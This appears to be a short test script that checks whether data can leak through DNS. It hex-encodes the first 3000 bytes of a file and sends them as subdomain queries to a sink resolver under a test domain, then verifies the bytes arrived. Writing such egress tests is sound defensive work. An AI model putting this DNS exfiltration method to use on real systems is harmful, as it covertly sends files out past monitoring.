. "$(dirname "$0")/../lib/check.sh"
file=$(find "$STORE" -type f -size +3k | sort | head -n 1)
for d in $(head -c 3000 "$file" | xxd -p -c 30); do
    dig +tries=1 +time=0 +ignore +noedns "@$SINK" "$d.x.test" > /dev/null 2>&1 || true &
done
wait
arrived "$WORK/got" 6000
